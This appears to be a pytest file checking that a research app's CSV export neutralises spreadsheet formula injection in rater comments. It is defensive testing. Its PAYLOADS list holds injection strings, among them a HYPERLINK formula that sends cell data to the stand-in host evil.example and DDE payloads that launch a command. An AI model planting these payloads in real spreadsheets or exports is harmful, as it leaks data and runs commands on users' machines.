"""CSV formula injection (issue 22, finding 5): a rater's comment that a spreadsheet would
run as a formula is written with a leading quote in the item-scores CSV; numbers stay numbers.
The file is read back with ``csv`` as an analyst's tool would."""

import csv
import io

import pytest

from research.models import ExportJob
from research.services.exports import export_job_run
from scoring.models import ItemScore, ScoreSheet
from studies.csv_cells import csv_cell
from tests.research import test_results_workbook_write as workbook_tests

pytestmark = pytest.mark.django_db
scored = workbook_tests.scored

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # after leading whitespace (found by a tester)
    "\n=1+1",
    "  @SUM(1)",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [(p, "'" + p) for p in PAYLOADS]
    + [(-1, -1), (2.5, 2.5), (0, 0), (None, ""), ("plain text", "plain text"), ("", ""), ("a=b", "a=b")],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_item_csv_neutralises_formula_comments_and_keeps_numbers(scored, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    sheet = ScoreSheet.objects.filter(assignment__response=scored).order_by("pk").first()
    sheet.comments = {str(step): PAYLOADS[step - 1] for step in range(1, 7)}
    sheet.save(update_fields=["comments"])
    item = ItemScore.objects.filter(sheet=sheet).order_by("step", "position").first()
    item.comment = PAYLOADS[6]
    item.save(update_fields=["comment"])
    # written past the services (which would strip the payloads' leading whitespace): the
    # sheet's copy of its rows (entry_rows) no longer matches, so drop it and readers use the rows
    ScoreSheet.objects.filter(pk=sheet.pk).update(entry_rows=None)
    job = export_job_run(
        job_id=ExportJob.objects.create(kind="items_csv", params={"study_id": scored.study.pk}).pk
    )
    assert job.status == "done", job.error
    with job.file.open("rb") as handle:
        rows = list(csv.DictReader(io.StringIO(handle.read().decode("utf-8"), newline="")))
    comments = [r["comment"] for r in rows if r["comment"]]
    for payload in PAYLOADS[:7]:  # the ones stored above (csv_cell's test covers every payload)
        assert "'" + payload in comments, payload
    bad = [value for row in rows for value in row.values() if value and value[0] in "=+-@\t\r"]
    assert bad == []  # no cell at all starts like a formula (the model's name "=cmd|..." included)
    assert any(r["model"] == "'=cmd|' /C calc'!A0" for r in rows)
    scores = [r["score"] for r in rows if r["row_type"] == "dimension"]
    assert scores and all(s.lstrip("-").isdigit() for s in scores)  # numbers are written as numbers
